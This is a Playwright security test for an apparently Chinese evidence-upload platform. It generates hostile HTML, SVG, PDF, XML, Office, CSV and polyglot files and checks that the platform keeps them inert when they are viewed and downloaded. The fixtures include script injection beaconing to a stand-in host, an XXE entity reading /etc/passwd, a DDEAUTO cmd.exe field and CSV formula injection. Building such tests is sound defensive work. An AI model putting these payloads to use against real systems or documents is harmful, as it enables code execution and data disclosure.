/** Files that mean harm, in a real browser: uploaded as evidence, looked at, opened by address, downloaded. */
import { readFileSync } from "node:fs";
import { expect, type Page, test } from "@playwright/test";
import { strToU8, zipSync } from "fflate";
import { demoCity, PATIENCE } from "./demo-city.ts";
import { sitDown } from "./seats.ts";
import { settled } from "./steps.ts";

let city: string;
test.beforeAll(async () => {
  test.setTimeout(PATIENCE);
  city = await demoCity();
});

/** What runs in our origin leaves this mark; what runs anywhere calls out. */
const MARK = "yj-hostile";
const OUTSIDE = "https://hostile.example";
const SCRIPT = `localStorage.setItem('${MARK}','ran');fetch('${OUTSIDE}/ran');alert('ran')`;
const HTML = `<!doctype html><html><body><h1>扫描结果</h1><script>${SCRIPT}</script><img src="${OUTSIDE}/pixel" onerror="${SCRIPT}"><iframe src="${OUTSIDE}/frame"></iframe></body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${SCRIPT}"><script>${SCRIPT}</script><image xlink:href="${OUTSIDE}/pixel"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${SCRIPT}"/></foreignObject></svg>`;
const XML = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${OUTSIDE}/style.xsl"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "${OUTSIDE}/entity">]><r xmlns:h="http://www.w3.org/1999/xhtml">&x;&y;<h:script>${SCRIPT}</h:script></r>`;

/** One page whose opening, first view and link each carry a script or an address. */
function pdf(): string {
  const action = `<< /S /JavaScript /JS (app.alert\\('ran'\\); this.submitForm\\('${OUTSIDE}/pdf'\\);) >>`;
  const bodies = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} /AA << /WC ${action} >> /Names << /JavaScript << /Names [(x) ${action}] >> >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /AA << /O ${action} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (javascript:${SCRIPT}) >> >>] >>`,
  ];
  let out = "%PDF-1.7\n";
  const at: number[] = [];
  for (const [index, body] of bodies.entries()) {
    at.push(out.length);
    out += `${index + 1} 0 obj\n${body}\nendobj\n`;
  }
  const table = at.map((each) => `${String(each).padStart(10, "0")} 00000 n \n`).join("");
  return `${out}xref\n0 4\n0000000000 65535 f \n${table}trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n${out.length}\n%%EOF\n`;
}

const relations = (...targets: readonly [type: string, target: string][]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${targets
    .map(
      ([type, target], index) =>
        `<Relationship Id="r${index + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${/^https?:|^file:/.test(target) ? ' TargetMode="External"' : ""}/>`,
    )
    .join("")}</Relationships>`;
const office = (main: string, type: string, parts: Record<string, string>): Buffer =>
  Buffer.from(
    zipSync(
      Object.fromEntries(
        Object.entries({
          "[Content_Types].xml": `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${main}" ContentType="application/vnd.openxmlformats-officedocument.${type}.main+xml"/></Types>`,
          "_rels/.rels": relations(["officeDocument", main]),
          ...parts,
        }).map(([name, text]) => [name, strToU8(text)]),
      ),
    ),
  );
const DOCX = office("word/document.xml", "wordprocessingml.document", {
  "word/document.xml": `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p><w:hyperlink r:id="r1"><w:r><w:t>&lt;script&gt;${SCRIPT}&lt;/script&gt;</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:body></w:document>`,
  "word/_rels/document.xml.rels": relations(
    ["hyperlink", `javascript:${SCRIPT}`],
    ["attachedTemplate", `${OUTSIDE}/template.dotm`],
    ["image", `${OUTSIDE}/pixel`],
  ),
});
const FORMULA = `=HYPERLINK("${OUTSIDE}/cell","点击")`;
const XLSX = office("xl/workbook.xml", "spreadsheetml.sheet", {
  "xl/workbook.xml": `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="&lt;img src=x onerror=alert(1)&gt;" sheetId="1" r:id="r1"/></sheets></workbook>`,
  "xl/_rels/workbook.xml.rels": relations(
    ["worksheet", "worksheets/sheet1.xml"],
    ["externalLink", `${OUTSIDE}/book.xlsx`],
  ),
  "xl/worksheets/sheet1.xml": `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="str"><f>WEBSERVICE("${OUTSIDE}/cell")</f><v>x</v></c><c r="B1" t="inlineStr"><is><t>&lt;img src=x onerror="${SCRIPT}"&gt;</t></is></c></row></sheetData></worksheet>`,
});
// Pixels first and markup after them: an image to whoever looks at its beginning, a page to who looks further.
const GIF = Buffer.concat([
  Buffer.from("R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==", "base64"),
  Buffer.from(HTML),
]);

const FILES: Readonly<Record<string, Buffer>> = {
  "恶意页面.html": Buffer.from(HTML),
  "恶意图形.svg": Buffer.from(SVG),
  "恶意文档.pdf": Buffer.from(pdf(), "latin1"),
  "恶意数据.xml": Buffer.from(XML),
  "恶意报告.docx": DOCX,
  "恶意台账.xlsx": XLSX,
  "恶意台账.csv": Buffer.from(`名称,说明\n${FORMULA},"=cmd|' /C calc'!A0"\n"<script>${SCRIPT}</script>",x\n`),
  "图片与页面.gif": GIF,
  "文档与页面.pdf": Buffer.concat([Buffer.from(pdf(), "latin1"), Buffer.from(HTML)]),
  "页面.txt": Buffer.from(HTML),
};

/** As the upload of the page does, from within it; null: the platform did not take it. */
async function upload(page: Page, name: string, bytes: Buffer): Promise<string | null> {
  return await page.evaluate(
    async ({ name, base64 }) => {
      const content = Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0));
      const said = (text: string) => btoa(String.fromCharCode(...new TextEncoder().encode(text)));
      const begun = await fetch("/api/uploads", {
        method: "POST",
        headers: {
          "tus-resumable": "1.0.0",
          "upload-length": String(content.length),
          "upload-metadata": `name ${said(name)},sensitivity ${said("internal")}`,
        },
      });
      if (begun.status >= 400) return null;
      const ended = await fetch(begun.headers.get("location") ?? "", {
        method: "PATCH",
        headers: {
          "tus-resumable": "1.0.0",
          "upload-offset": "0",
          "content-type": "application/offset+octet-stream",
        },
        body: content,
      });
      return ended.headers.get("upload-file");
    },
    { name, base64: bytes.toString("base64") },
  );
}

test("files that mean harm are evidence and nothing more", async ({ browser }) => {
  const { page } = await sitDown(browser, city, "黄颖");
  const context = page.context();
  const left: string[] = [];
  context.on("request", (request) => {
    const { protocol, origin } = new URL(request.url());
    if (protocol.startsWith("http") && origin !== city) left.push(request.url());
  });
  await context.route(`${OUTSIDE}/**`, (route) => route.abort());
  const talked: string[] = [];
  const listen = (each: Page, into = talked) =>
    each.on("dialog", (dialog) => {
      into.push(dialog.message());
      // Its page may be gone before the answer.
      void dialog.dismiss().catch(() => undefined);
    });
  listen(page);
  const ran = () => page.evaluate((mark) => localStorage.getItem(mark), MARK);

  // The trap closes: the same page, served as a careless server would, runs, calls out and talks.
  await context.route(`${city}/careless.html`, (route) =>
    route.fulfill({ contentType: "text/html", body: HTML }),
  );
  const careless = await context.newPage();
  const ofCareless: string[] = [];
  listen(careless, ofCareless);
  await careless.goto(`${city}/careless.html`);
  expect(await ran()).toBe("ran");
  expect(left.length).toBeGreaterThan(0);
  await expect.poll(() => ofCareless.length).toBeGreaterThan(0);
  await careless.close();
  await page.evaluate((mark) => localStorage.removeItem(mark), MARK);
  left.length = 0;

  const kept = new Map<string, string>();
  for (const [name, bytes] of Object.entries(FILES)) {
    const id = await upload(page, name, bytes);
    if (id !== null) kept.set(name, id);
  }
  expect(kept.size).toBeGreaterThanOrEqual(8);

  // Straight to the bytes, as somebody who sends the address to a colleague would have it.
  const tab = await context.newPage();
  listen(tab);
  for (const [name, id] of kept) {
    // What is not shown is a download; the browser calls that an aborted navigation.
    await tab
      .goto(`${city}/api/files/${id}/show`)
      .catch((error: unknown) => expect(String(error)).toMatch(/Download|ABORTED/));
    const arriving = tab.waitForEvent("download");
    await tab.goto(`${city}/api/files/${id}/download`).catch(() => undefined);
    const download = await arriving;
    expect(download.suggestedFilename()).toBe(name);
    expect(readFileSync(await download.path()).equals(FILES[name] ?? Buffer.alloc(0)), name).toBe(true);
  }
  await tab.close();

  // In the viewer of our own page.
  const draft = await page.evaluate(
    async (files) => {
      const get = async (path: string) => (await (await fetch(path)).json()) as { items: { id: string }[] };
      const { items } = await get("/api/periods?state=open&limit=1");
      const answer = await fetch("/api/submissions", {
        method: "POST",
        headers: { "content-type": "application/json", "idempotency-key": crypto.randomUUID() },
        body: JSON.stringify({ periodIds: [items[0]?.id], kind: "files", title: "恶意文件演练", files }),
      });
      return (await answer.json()) as { id?: string };
    },
    [...kept.values()].map((fileId) => ({ fileId })),
  );
  expect(draft.id, JSON.stringify(draft)).toBeDefined();
  await page.goto(`/submissions/${draft.id}`);
  await settled(page);
  for (const name of kept.keys()) {
    await page.getByRole("button", { name }).first().click();
    const drawer = page.getByRole("dialog");
    await expect(drawer).toBeVisible();
    await expect(drawer.locator(".yj-viewer-wait, .ant-skeleton, .ant-spin")).toHaveCount(0);
    // A page of a PDF is painted, and takes clicks where its link stands.
    const painted = drawer.locator("canvas, img").first();
    if (await painted.isVisible()) await painted.click({ force: true, timeout: 3000 }).catch(() => undefined);
    await page.keyboard.press("Escape");
    await expect(drawer).toHaveCount(0);
  }

  expect(await ran(), "a script ran in our origin").toBeNull();
  expect(left, "requests that left").toEqual([]);
  expect(talked, "dialogs").toEqual([]);
  expect(context.pages()).toHaveLength(1);
});
